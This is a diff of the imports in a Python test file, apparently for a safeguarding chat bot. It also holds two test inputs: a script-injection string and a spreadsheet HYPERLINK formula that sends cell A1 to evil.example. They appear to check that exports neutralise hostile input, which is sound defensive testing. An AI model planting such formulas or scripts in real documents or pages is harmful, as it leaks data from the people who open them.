@@ -20,11 +20,11 @@ from bot.app import Bot, create_app
 from bot.delivery.spreadsheets import safe_cell
 from bot.reports.service import read_answers
 from storage.models import Event
-from tests.alerts.test_alerts import DSL, file_concern
+from tests.support.alerts import DSL, file_concern
 from tests.support.harness import Chat
 from tests.support.reports import event_kinds, only_report
 from tests.support.walk import STAFF
-from tests.web.test_web_api import Socket, items, open_chat
+from tests.web.chat import Socket, items, open_chat
 
 SCRIPT = "<script>alert('x')</script> AB showed me messages in the class group chat."
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
